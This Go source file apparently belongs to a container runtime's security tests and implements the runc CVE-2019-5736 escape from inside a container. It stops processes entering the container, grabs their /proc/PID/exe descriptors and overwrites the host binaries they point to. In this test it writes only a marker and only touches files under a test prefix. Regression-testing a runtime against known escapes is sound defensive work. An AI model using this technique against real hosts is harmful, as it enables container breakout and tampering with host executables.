package main

import (
	"fmt"
	"os"
	"runtime"
	"sort"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// held is an O_PATH descriptor for another process's /proc/PID/exe.
type held struct {
	fd     int
	target string
}

// exeHunt is runc CVE-2019-5736 from inside the container, until the file
// stop exists (arg is "STOP|PREFIX"): it predicts the next pids of its pid namespace
// (ns_last_pid), stops each new process the moment it exists (before it
// can exec, if it is a helper forked in from the host), takes an O_PATH
// descriptor on its /proc/PID/exe and lets it go on; it also tries
// /proc/PID/exe of every visible process for writing. Whenever no copy of
// a caught binary runs any more, reopening the descriptor for writing
// succeeds, and it overwrites the file's first bytes: only files under
// PREFIX (the test's copies of the host binaries) or memfds, never
// anything else, however writable. Then it prints:
//
//	@@caught=N              processes stopped and inspected
//	@@exe=TARGET            each distinct executable seen (one line each)
//	@@overwrite=TARGET      each file it managed to write to
//	@@overwrite-denied=…    each reopen or write refused after the end
func exeHunt(arg string) {
	stop, prefix, _ := strings.Cut(arg, "|")
	if prefix == "" {
		fmt.Printf("@@exe-hunt=error: no victim prefix\n")
		return
	}
	victim := func(t string) bool { return strings.HasPrefix(t, prefix) || strings.HasPrefix(t, "/memfd:") }
	runtime.LockOSThread()
	self := os.Getpid()
	var fds []held
	seen := map[string]bool{}
	written := map[string]bool{}
	caught := 0
	catch := func(pid int) {
		t := "?"
		fd, err := unix.Open("/proc/"+strconv.Itoa(pid)+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
		if err == nil {
			t, _ = os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
			if !seen[t] && victim(t) && len(fds) < 4096 {
				fds = append(fds, held{fd, t})
			} else {
				unix.Close(fd)
			}
			seen[t] = true
		}
		if !victim(t) {
			return
		}
		if w, err := unix.Open("/proc/"+strconv.Itoa(pid)+"/exe", unix.O_WRONLY|unix.O_CLOEXEC, 0); err == nil {
			overwrite(w, t, written)
		}
	}
	last := lastPid()
	for n := 0; ; n++ {
		for p := last + 1; p <= last+4; p++ {
			pfd, err := unix.PidfdOpen(p, 0) // processes only: never one of our threads
			if err != nil || p == self {
				if err == nil {
					unix.Close(pfd)
				}
				continue
			}
			_ = unix.PidfdSendSignal(pfd, unix.SIGSTOP, nil, 0)
			caught++
			catch(p)
			_ = unix.PidfdSendSignal(pfd, unix.SIGCONT, nil, 0)
			unix.Close(pfd)
			last = p
		}
		if n%2000 == 0 {
			if l := lastPid(); l > last {
				last = l
			}
			for i := range fds {
				if w, err := reopen(fds[i]); err == nil {
					overwrite(w, fds[i].target, written)
				}
			}
			if _, err := os.Stat(stop); err == nil {
				break
			}
		}
	}
	// The entering tools have all exited: nothing keeps the files busy.
	time.Sleep(200 * time.Millisecond)
	for _, h := range fds {
		w, err := reopen(h)
		if err != nil {
			fmt.Printf("@@overwrite-denied=%s: %s\n", h.target, errName(err))
			continue
		}
		overwrite(w, h.target, written)
	}
	fmt.Printf("@@caught=%d\n", caught)
	var list []string
	for t := range seen {
		list = append(list, t)
	}
	sort.Strings(list)
	for _, t := range list {
		fmt.Printf("@@exe=%s\n", t)
	}
}

// reopen opens a held /proc/PID/exe again, for writing.
func reopen(h held) (int, error) {
	return unix.Open("/proc/self/fd/"+strconv.Itoa(h.fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
}

// overwrite writes a marker over the first bytes of the open file w and
// reports the result once per target.
func overwrite(w int, target string, done map[string]bool) {
	defer unix.Close(w)
	if done[target] {
		return
	}
	done[target] = true
	if _, err := unix.Pwrite(w, []byte("#!/virtlxc-pwned\n"), 0); err != nil {
		fmt.Printf("@@overwrite-denied=%s: write %s\n", target, errName(err))
		return
	}
	fmt.Printf("@@overwrite=%s\n", target)
}

// lastPid is the pid namespace's last allocated pid.
func lastPid() int {
	b, err := os.ReadFile("/proc/sys/kernel/ns_last_pid")
	if err != nil {
		return 0
	}
	n, _ := strconv.Atoi(strings.TrimSpace(string(b)))
	return n
}
